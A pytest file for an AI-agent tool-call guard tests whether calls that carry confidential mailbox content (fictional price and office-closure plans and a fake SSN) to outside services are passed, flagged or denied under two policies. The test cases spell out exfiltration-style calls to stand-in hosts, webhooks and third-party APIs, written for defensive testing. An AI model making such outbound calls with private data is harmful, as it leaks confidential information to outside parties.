"""guards/_call/services: what the services behind tools carry that nobody tagged, by default and under `seal`."""
from __future__ import annotations

import pytest

from guards import ASK, DENY, PASS
from tests.contaminated import Story, settings

PLANS = ("The list price of the Lyon plant rises in March, and Contoso keeps its discount until the end of June. "
         "The board decided to close the Bergen office and to move its nine people to Oslo. SSN 536-22-" + "8145.")
HTTP = {"method": "POST", "url": "https://api.partner.example/v1/notes"}
# (a call after the mailbox gave PLANS, what the default says of it, what `seal` does)
OUTSIDE = [
    ("mcp__fetch__fetch", {"url": "https://docs.python.org/3/library/json.html"}, PASS, DENY),
    ("mcp__tavily__tavily_search", {"query": "json indent"}, PASS, PASS),
    ("mcp__perplexity__perplexity_ask", {"messages": [{"role": "user", "content": "A fair price in France?"}]}, PASS, DENY),
    ("mcp__notion__create_page", {"title": "Prices", "content": PLANS}, PASS, DENY),
    ("mcp__notion__get_page", {"id": "a1"}, PASS, PASS),
    ("mcp__mail__search_email", {"query": "prices of this year please"}, PASS, PASS),
    ("mcp__filesystem__write_file", {"path": "a.md", "content": PLANS}, PASS, PASS),
    ("WebFetch", {"url": "https://docs.python.org/3/", "prompt": f"Compare with: {PLANS[:100]}"}, PASS, DENY),
    ("mcp__api__http_request", {**HTTP, "body": PLANS}, ASK, DENY),
    ("mcp__fetch__fetch", {**HTTP, "body": PLANS}, ASK, DENY),
    ("mcp__rest__request", {**HTTP, "data": {"text": PLANS}}, ASK, DENY),
    ("mcp__n8n__trigger_webhook", {"workflow": "w", "payload": {"text": PLANS}}, ASK, DENY),
    ("mcp__hooks__call_webhook", {"url": "https://hooks.example/abc", "body": PLANS}, ASK, DENY),
    ("mcp__tavily__tavily_search", {"query": PLANS}, ASK, DENY),
    ("mcp__zapier__run_action", {"action": "row", "params": {"text": PLANS}}, ASK, DENY),
    ("mcp__openai__chat", {"prompt": f"Shorten: {PLANS}"}, ASK, DENY),
    ("mcp__deepl__translate_text", {"text": PLANS, "target_lang": "FR"}, ASK, DENY),
    ("mcp__perplexity__perplexity_ask", {"question": "Whose is 536-22-" + "8145?"}, ASK, DENY),
]


@pytest.mark.parametrize(("tool", "given", "weighed", "sealed"), OUTSIDE, ids=lambda one: str(one)[:40])
def test_a_service_that_anybody_may_ask_carries_what_it_is_given(tool, given, weighed, sealed):
    for policy, wanted in (("tagged", weighed), ("seal", sealed)):
        story = Story(settings(policy))
        story.prompt("Look at the mail about prices and tell me what it says")
        story.post("mcp__mail__search_email", [{"type": "text", "text": PLANS}])
        assert story.pre(tool, **given).effect == wanted, policy


def test_a_service_that_the_prompt_names_is_the_persons_choice():
    story = Story(settings())
    story.prompt("Have deepl translate the mail about prices")
    story.post("mcp__mail__search_email", [{"type": "text", "text": PLANS}])
    assert story.pre("mcp__deepl__rephrase", text=PLANS).effect == PASS
